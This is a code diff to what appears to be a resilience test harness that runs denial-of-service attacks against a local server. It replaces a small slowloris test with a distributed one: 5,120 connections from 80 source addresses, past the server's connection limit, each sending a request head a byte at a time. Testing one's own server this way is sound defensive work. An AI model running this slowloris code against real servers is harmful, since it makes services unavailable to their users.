@@ -215,15 +215,13 @@ class Attack:
 
 
 def _closed(connection):
-    connection.setblocking(False)
+    """True once the server has closed the connection; reads what has arrived without waiting."""
     try:
-        return connection.recv(65536) == b""
+        return connection.recv(65536, socket.MSG_DONTWAIT) == b""
     except BlockingIOError:
         return False
     except OSError:
         return True
-    finally:
-        connection.setblocking(True)
 
 
 def address(index):
@@ -266,11 +264,37 @@ def sparse_requests(attack):
 
 
 def slow_heads(attack):
-    """64 connections from each of 4 addresses sending a request head a byte a second (slowloris)."""
-    opening = b"GET /logs HTTP/1.1\r\nHost: x\r\n"
-    for index in range(4):
-        for _ in range(64):
-            attack.spawn(attack.hold, address(index), opening, b"X", 1.0)
+    """5,120 connections from 80 addresses, more than `server.max_connections`, each sending a request head a byte
+    a second (a distributed slowloris); closed ones are opened again at once. One thread drives them all."""
+    def drive():
+        held = {}  # slot -> [socket, head started]
+        slots = [(address(index // 64), index) for index in range(80 * 64)]
+        while not attack.stop.is_set():
+            for source, slot in slots:
+                entry = held.get(slot)
+                try:
+                    if entry is None:
+                        connection = socket.socket()
+                        connection.bind((source, 0))
+                        connection.setblocking(False)
+                        connection.connect_ex(("127.0.0.1", attack.port))
+                        held[slot] = [connection, False]
+                        with attack.lock:
+                            attack.sockets.append(connection)
+                    elif _closed(entry[0]):
+                        entry[0].close()
+                        del held[slot]
+                    else:
+                        entry[0].send(b"X" if entry[1] else b"GET /logs HTTP/1.1\r\nX")
+                        entry[1] = True
+                except (BlockingIOError, InterruptedError):
+                    pass
+                except OSError:
+                    held.pop(slot, [socket.socket()])[0].close()
+            attack.stop.wait(1)
+        for connection, _ in held.values():
+            connection.close()
+    attack.spawn(drive)
 
 
 def writes_without_body(attack):
@@ -368,7 +392,8 @@ ATTACKS = [
      lambda attack: slow_rpc_bodies(attack, authenticated=True)),
     ("idle connections", "704 connections sending nothing, 256 of them from one address", idle_connections),
     ("sparse keep-alive requests", "256 connections each sending a request every 20 s", sparse_requests),
-    ("slow heads (slowloris)", "256 connections sending a request head a byte a second", slow_heads),
+    ("slow heads (slowloris)", "5,120 connections from 80 addresses, past max_connections, sending a request head a byte a second",
+     slow_heads),
     ("writes without a body", "192 POST /logs with a valid token, Content-Length: 100 and no body", writes_without_body),
     ("costly searches", "13 connections sending batches of 100 text searches over 10,000 entries, 4 hanging up",
      costly_searches),
